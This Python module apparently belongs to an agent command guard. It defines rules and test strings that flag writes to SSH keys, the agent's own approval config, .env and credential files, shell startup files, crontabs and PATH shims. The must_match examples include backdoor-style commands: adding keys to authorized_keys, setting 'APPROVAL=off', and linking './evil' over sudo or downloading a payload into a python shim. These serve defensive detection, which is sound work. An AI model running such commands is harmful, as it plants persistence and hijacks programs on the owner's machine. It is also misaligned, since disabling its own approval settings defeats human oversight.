"""Writes onto sensitive paths: SSH keys and config, the agents' own config
and credentials, project `.env` files, shell startup files, credential
files, system configuration (F-RULES-3). Reading them is not this family."""

from __future__ import annotations

from collections.abc import Callable, Iterator

from redline.decision import Severity
from redline.rules import argv, targets
from redline.rules.model import InvocationTest, Rule, rule
from redline.rules.path_shims import shim_written
from redline.rules.secrets import canonical, is_project_env
from redline.rules.senders import is_remote
from redline.rules.sensitive_places import family_of as family_of
from redline.shell import paths
from redline.shell.analysis import Analysis
from redline.shell.invocation import Invocation
from redline.shell.lazy_regex import lazy_regex
from redline.shell.model import DYNAMIC

S = Severity.SENSITIVE

# A mode that only takes permissions away, or leaves group and others none.
_TIGHTEN = lazy_regex(r"\A(?:[ugoa]*-[rwxXst]+(?:,[ugoa]*-[rwxXst]+)*|0?[0-7]00)\Z")


_COPIERS = frozenset({"cp", "mv", "install", "ln", "rsync"})
# Programs whose operands `_writes` reads (the others' options stay unparsed).
_OPERAND_WRITERS = _COPIERS | {"chattr", "setfacl"}


def _writes(inv: Invocation) -> Iterator[str]:
    """Raw values of the files an invocation writes, beyond `targets.written_files`:
    `mv` sources, download outputs, generated keys, archive destinations."""
    yield from targets.written_files(inv)
    name, values = inv.name, inv.values
    if name == "busybox" and "--install" in values:  # links every applet into a folder
        folders = [v for v in values if not v.startswith("-")]
        yield folders[-1] if folders else "/bin"
    operands = inv.options.operands if name in _OPERAND_WRITERS else ()
    if name == "mv" and len(operands) >= 2:
        yield from (w.value for w in operands[:-1])
    if name in _COPIERS and len(operands) >= 2:
        destination = operands[-1].value
        last = destination.rstrip("/").rsplit("/", 1)[-1]
        if destination.endswith("/") or "." not in last.lstrip("."):
            for source in operands[:-1]:  # `cp .bashrc ~/` writes `~/.bashrc`
                yield destination.rstrip("/") + "/" + source.value.rstrip("/").rsplit("/", 1)[-1]
    if name == "curl":
        yield from argv.parse(values, "oudHAXTFebcDEKmrw", ("output",)).value("-o", "--output")
    elif name in ("wget", "wget2"):
        yield from argv.parse(values, "OoaPUeT", ("output-document",)).value(
            "-O", "--output-document"
        )
    elif name == "ssh-keygen":
        args = argv.parse(values, "fCNtbZaEmnOPrsVzwJjKI", ())
        if not args.has("-y", "-l", "-F", "-e", "-i", "-D", "-Q", "-B", "-L", "-k"):
            for key in args.value("-f"):
                yield from (key, key + ".pub")
    elif name == "tar" and _extracts(values):
        yield from argv.parse(values, "CfbT", ("directory", "file")).value("-C", "--directory")
    elif name == "unzip":
        yield from argv.parse(values, "d", ()).value("-d")
    elif name in ("chattr", "setfacl"):
        yield from (w.value for w in operands)
    elif name == "patch":
        args = argv.parse(values, "iopdBDFrVYzg", ("input", "output", "directory"))
        yield from (*args.operands[:1], *args.value("-o", "--output"))
    elif name == "visudo" and not inv.has_flag("cVh", ("check", "version", "help")):
        yield "/etc/sudoers"


def _extracts(values: tuple[str, ...]) -> bool:
    first = values[0] if values else ""
    bundled = not first.startswith("--") and "x" in first
    return bundled or "--extract" in values or "--get" in values


def _from_template(inv: Invocation, family: str) -> bool:
    """`cp .env.example .env`: a project's first step, its own template copied
    beside it. The text is the project's placeholders, not what the agent
    composed (`echo KEY=x > .env`, `cp /tmp/x .env` still ask)."""
    if inv.name != "cp" or family != "project-env" or inv.options.values:
        return False
    operands = inv.options.operands
    if len(operands) != 2 or "t" in inv.options.short or "r" in inv.options.short:
        return False
    source, target = (paths.normalize(w.value, inv.cwd) for w in operands)
    if source is None or target is None or DYNAMIC in source + target:
        return False
    folder, _, name = source.rpartition("/")
    template = name.lower().startswith(".env.") and not is_project_env(name)
    return template and target.rpartition("/")[0] == folder


def _tightens(inv: Invocation, family: str) -> bool:
    """`chmod 600 ~/.ssh/id_rsa`: making a secret private is what one should do."""
    if inv.name != "chmod" or family not in ("ssh", "credentials", "agent-config", "project-env"):
        return False
    operands = inv.options.operands
    return bool(operands) and bool(_TIGHTEN.match(operands[0].value))


# The families each invocation writes, for the last analysis judged: the nine
# rules share one reading of it. Held by reference, so `is` cannot mistake a
# new analysis for an old one.
_LAST: tuple[Analysis | None, dict[int, frozenset[str]]] = (None, {})


def _written_families(analysis: Analysis) -> dict[int, frozenset[str]]:
    global _LAST
    last = _LAST
    if last[0] is analysis:
        return last[1]
    found: dict[int, frozenset[str]] = {}
    moved = False  # a `cd` ran: the working directory is no longer the project root
    for inv in analysis.invocations:
        if inv.name in ("cd", "pushd", "popd"):
            moved = True
        # Most invocations write nothing: `_writes` is not even started for them.
        if not inv.remote and (inv.redirects or inv.name in _MAY_WRITE):
            families = frozenset(_families(inv, moved or inv.cwd != analysis.cwd))
            if families:
                found[inv.index] = families
    _LAST = (analysis, found)
    return found


# Every program `_writes` reads beyond its redirects (keep in step with its branches).
_MAY_WRITE = targets.OPERAND_WRITERS | _OPERAND_WRITERS | {
    "curl", "wget", "wget2", "ssh-keygen", "tar", "unzip", "patch", "visudo", "busybox"
}  # fmt: skip


def _families(inv: Invocation, moved: bool) -> Iterator[str]:
    written = tuple(_writes(inv))
    if not written:
        return  # most invocations write nothing
    raw = {w.value: w.raw for w in (*inv.argv, *(r.target for r in inv.redirects if r.target))}
    for value in written:
        if is_remote(value):
            continue  # `scp f host:.ssh/`: another machine's files
        path = canonical(value, inv.cwd, raw.get(value, ""))
        if path is not None and shim_written(inv, path):
            yield "path-shim"
        if path is None or paths.is_system_dir(path) or paths.is_home_dir(path):
            continue  # a whole system or home directory: the hard lines' domain
        family = family_of(path, value in ("config.yaml", "./config.yaml") and not moved)
        if family is not None and not _tightens(inv, family) and not _from_template(inv, family):
            yield family


def _writes_family(family: str) -> InvocationTest:
    def test(inv: Invocation, analysis: Analysis) -> bool:
        last = _LAST  # read inline: nine rules ask this of every invocation
        found = last[1] if last[0] is analysis else _written_families(analysis)
        return bool(found) and family in found.get(inv.index, ())

    return test


def _crontab(inv: Invocation, analysis: Analysis) -> bool:
    values = inv.values
    args = argv.parse(values, "u", ())
    if args.has("-l", "-V", "-r", "-T", "--help"):
        return False  # listing, or removal (its own rule)
    return bool(args.operands) or args.has("-e", "-i") or not values


def _family(
    family: str, description: str, repair: str, must_match: tuple[str, ...],
    must_not_match: tuple[str, ...], aliases: tuple[str, ...] = (),
    test: Callable[[Invocation, Analysis], bool] | None = None, programs: tuple[str, ...] = (),
) -> Rule:  # fmt: skip
    return rule(
        "sensitive.write-" + family, "sensitive", S, description, repair,
        test=test or _writes_family(family), aliases=aliases, programs=programs,
        must_match=must_match, must_not_match=must_not_match,
    )  # fmt: skip


SENSITIVE_RULES: tuple[Rule, ...] = (
    _family(
        "ssh",
        "write to `~/.ssh` (keys, authorized_keys, ssh config)",
        "leave `~/.ssh` to the owner; use a key or config file inside the workspace",
        (
            "echo 'ssh-ed25519 AAA x' >> ~/.ssh/authorized_keys",
            "cp id_new $HOME/.ssh/",
            "sudo tee -a /root/.ssh/authorized_keys",
            "ssh-keygen -t ed25519 -f ~/.ssh/deploy",
            "ls && rm -f ${HOME}/.ssh/known_hosts",
            "sed -i 's/^Host/#Host/' ~/.ssh/config",
            "bash -c 'cat k.pub >> ~/.ssh/../.ssh/authorized_keys'",
            "chmod 644 ~/.ssh/id_rsa",
        ),
        (
            "ls ~/.ssh",
            "cat ~/.ssh/config",
            "ssh-keygen -f ./id_test",
            "chmod 600 ~/.ssh/id_rsa",
            "echo '>> ~/.ssh/authorized_keys'",
            "grep -r 'id_rsa' .",
            "cp ~/.ssh/id_rsa.pub /tmp/",
        ),
        aliases=("ssh-write",),
    ),
    _family(
        "agent-config",
        "write to the agent's own config or credentials (`.env`, `config.yaml`, hooks)",
        "do not change the agent's own settings; ask the owner to make the change",
        (
            "echo 'APPROVAL=off' >> ~/.hermes/.env",
            "sed -i 's/ask/allow/' $HERMES_HOME/config.yaml",
            "cp x.yaml ${HERMES_HOME}/config.yaml",
            "rm ~/.hermes/shell-hooks-allowlist.json",
            "tee .claude/settings.json < s.json",
            "cd /root/.hermes && echo x > .env",
            "mv hook.sh ~/.hermes/agent-hooks/pre.sh",
            "cp x ~/.cursor/mcp.json",
            "echo '{}' > .mcp.json",
            "tee .vscode/mcp.json < servers.json",
            "cp x ~/.codeium/windsurf/mcp_config.json",
        ),
        (
            "cat ~/.hermes/config.yaml",
            "cp ~/.hermes/.env /tmp/x.env.example",
            "echo 'x' > ~/.hermes/notes.md",
            "ls ~/.claude",
            "grep -r hooks ~/.hermes/config.yaml",
            "cat .mcp.json",
            "cp ~/.cursor/mcp.json /tmp/mcp.json",
            "echo x > docs/mcp.json.md",
        ),
        aliases=("hermes-env-write",),
    ),
    _family(
        "project-env",
        "write to a project `.env` file",
        "tell the owner which variable to set; or write `.env.example` with placeholder values",
        (
            "echo 'KEY=x' >> .env",
            "sed -i 's/DEBUG=0/DEBUG=1/' app/.env",
            "cp /tmp/x .env",
            "cp ../other/.env.example .env",
            "true && printf 'A=1' > ./.env.production",
            "rm .env.local",
            "timeout 3 tee -a .env",
            "sh -c 'echo A=1 >> ../.env'",
            "mv .env .env.bak",
        ),
        (
            "cat .env",
            "cat .envrc",
            "echo x >> .envrc",
            "echo x >> notes.env.md",
            "echo x > .environment",
            "cp .env .env.example",
            "echo 'A=' > .env.example",
            "cp .env.example .env",
            "cp -n app/.env.sample app/.env.local",
        ),
    ),
    _family(
        "project-config",
        "write to the project's `config.yaml`",
        "show the owner the change to `config.yaml` and let them apply it",
        (
            "echo 'approval: off' > config.yaml",
            "sed -i 's/a/b/' ./config.yaml",
            "echo 'x: 1' >> ./config.yaml",
            "cp new.yaml config.yaml",
            "bash -c 'sudo tee config.yaml < new.yaml'",
        ),
        (
            "cat config.yaml",
            "echo x > config.yaml.bak",
            "cp config.yaml /tmp/",
            "echo x > app/config.yml",
            "cd sub && echo x > config.yaml",
        ),
    ),
    _family(
        "shell-rc",
        "write to a shell startup file or git's config (`~/.bashrc`, `~/.zshrc`, `/etc/profile`, "
        "`~/.gitconfig`...)",
        "print the line for the owner to add to their shell startup file or git config",
        (
            "echo 'export PATH=$PATH:~/bin' >> ~/.bashrc",
            "printf '[alias]\\n\\tx = !sh\\n' >> ~/.gitconfig",
            "cp dotfiles/gitconfig ~/.config/git/config",
            "sudo tee -a /etc/profile.d/x.sh",
            "echo x >> $HOME/.zshrc",
            "cp .bashrc ~/",
            "ln -sf ~/dotfiles/zshrc ~/.zshrc",
            "mv ~/.profile ~/.profile.old",
            "echo x >> ~/.config/fish/config.fish",
            # Written through an option (`rules.output_options`).
            "sort -o ~/.bashrc lines.txt",
            "redline log export --since 1m -o ~/.bash_profile",
            "curl -D ~/.zshrc https://example.com",
            "cat x | sponge ~/.profile",
            "pg_dump --file=$HOME/.bashrc db",
            "openssl base64 -d -in x.b64 -out ~/.bashrc",
            "git archive -o ~/.profile HEAD x",
            "sed -n 'w ~/.bashrc' x",
            "sed 's/a/b/w ~/.zshrc' x",
            "ssh -E ~/.bashrc host true",
            "rsync --log-file=~/.profile a/ b/",
            "git bundle create ~/.bashrc HEAD",
            "base64 -d x.b64 -o ~/.bashrc",
            "brotli -d x.br -o ~/.zshrc",
            "sqlite3 db '.output /home/me/.bashrc'",
            "awk '{print > \"/home/me/.bashrc\"}' x",
            "cp x ~/.pam_environment",
            "cp x ~/.pythonrc",
            "script -q ~/.bashrc",
        ),
        (
            "sort -o sorted.txt lines.txt",
            "redline log export -o audit.jsonl",
            "curl -c cookies.txt https://example.com",
            "cat ~/.bashrc",
            "source ~/.bashrc",
            "cp ~/.bashrc ~/.bashrc.bak",
            "echo x >> ./project/.bashrc.d",
            "grep PATH ~/.zshrc",
            "git config --global user.name me",
            "cat ~/.gitconfig",
            "echo x >> ./repo/.gitconfig.example",
            "sed -n '/x/w out.txt' x",
            "sed 's/who/what/g' ~/.bashrc",
            "git archive -o release.tar.gz HEAD",
            "openssl req -new -key k.pem -out req.csr",
            "ssh -E /tmp/ssh.log host true",
            "ssh host grep -E x ~/.bashrc",
            "rsync -a --log-file=/tmp/r.log a/ b/",
            "git bundle create repo.bundle --all",
            "sqlite3 db '.output out.csv' 'select 1'",
            "awk '{print > \"out.txt\"}' x",
            "cp ~/.pythonrc ~/.pythonrc.bak",
        ),
        aliases=("shell-rc-write",),
    ),
    _family(
        "credentials",
        "write to a credentials file (`~/.aws`, `~/.netrc`, `~/.docker/config.json`...)",
        "let the owner configure credentials with the tool's own login command",
        (
            "echo 'machine x login y' >> ~/.netrc",
            "cp creds ~/.aws/credentials",
            "rm -rf ~/.gnupg",
            "sed -i 's/a/b/' ~/.kube/config",
            "echo x > ${HOME}/.npmrc",
            "sudo install -m 600 cfg /root/.docker/config.json",
            "cp x ~/.config/pip/pip.conf",
            "curl -o ~/.pip/pip.conf https://x.example/p",
        ),
        (
            "cat ~/.aws/credentials",
            "cat ~/.config/pip/pip.conf",
            "cp x ./pip.conf.example",
            "aws configure list",
            "chmod 600 ~/.netrc",
            "cp ~/.kube/config /tmp/kubeconfig",
            "echo x > ./credentials",
        ),
    ),
    _family(
        "autostart",
        "write to a user autostart location (systemd user units, LaunchAgents)",
        "show the owner the unit or agent file and let them install it",
        (
            "cp x.service ~/.config/systemd/user/",
            "tee ~/Library/LaunchAgents/x.plist",
            "echo x > ~/.config/autostart/x.desktop",
        ),
        (
            "systemctl --user status x",
            "cat ~/.config/systemd/user/x.service",
            "cp x.service ./deploy/",
        ),
    ),
    _family(
        "system-config",
        "write to system configuration (`/etc`, `/boot`, systemd units, crontabs)",
        "show the owner the change to system configuration and let them apply it",
        (
            "echo '1.2.3.4 x' | sudo tee -a /etc/hosts",
            "sudo sed -i 's/a/b/' /etc/ssh/sshd_config",
            "cp x.service /lib/systemd/system/",
            "echo ok && echo x > /private/etc/hosts",
            "sudo visudo",
            "cd /etc && sudo rm -f motd",
            "sudo dd if=x of=/boot/grub/grub.cfg",
        ),
        (
            "cat /etc/hosts",
            "cp /etc/nginx/nginx.conf ./nginx.conf",
            "ls /etc",
            "echo '> /etc/hosts'",
            "sudo visudo -c",
            "grep -r x /etc/systemd",
        ),
        aliases=("etc-write",),
    ),
    _family(
        "crontab",
        "install or edit a crontab (commands run on a schedule)",
        "show the owner the crontab lines and let them install them",
        (
            "crontab mycron.txt",
            "echo '* * * * * x' | crontab -",
            "crontab -e",
            "sudo crontab -u bob jobs.txt",
        ),
        ("crontab -l", "crontab -r", "echo crontab x"),
        test=_crontab,
        programs=("crontab",),
    ),
    rule(
        "sensitive.path-shim",
        "sensitive",
        S,
        "link a program on PATH (`git`, `sudo`, `ssh`...) to another file: it runs in the "
        "program's place later",
        "run the other program by its own name or path; link only a program to its own name",
        test=_writes_family("path-shim"),
        must_match=(
            "ln -sf /tmp/x ~/.local/bin/git",
            "ln -s ./evil /usr/local/bin/sudo",
            "ln -sfn /tmp/payload ~/bin/ssh",
            "cp /tmp/x ~/.local/bin/git",
            "install -m755 /tmp/x ~/.local/bin/sudo",
            "printf '#!/bin/sh\\nexec /tmp/x \"$@\"\\n' > ~/.local/bin/git",
            "ln -st ~/.local/bin /tmp/evil/git",
            "cp /tmp/x ~/.cargo/bin/cargo",
            "curl -o ~/.pyenv/shims/python https://x.example.com/p",
            "busybox --install -s ~/.local/bin",
        ),
        must_not_match=(
            "ln -sf /usr/bin/python3 ~/.local/bin/python",
            "ln -s ../lib/tool ./bin/tool",
            "ln -sf ~/src/mytool/target/release/mytool ~/.local/bin/mytool",
            "ln -s /opt/node-v20/bin/node /usr/local/bin/node",
            "cp build/mytool ~/.local/bin/mytool",
            "install -m755 target/release/rg2 ~/.local/bin/",
            "cp ~/.local/bin/git /tmp/git.bak",
            "busybox ls",
        ),
    ),
)
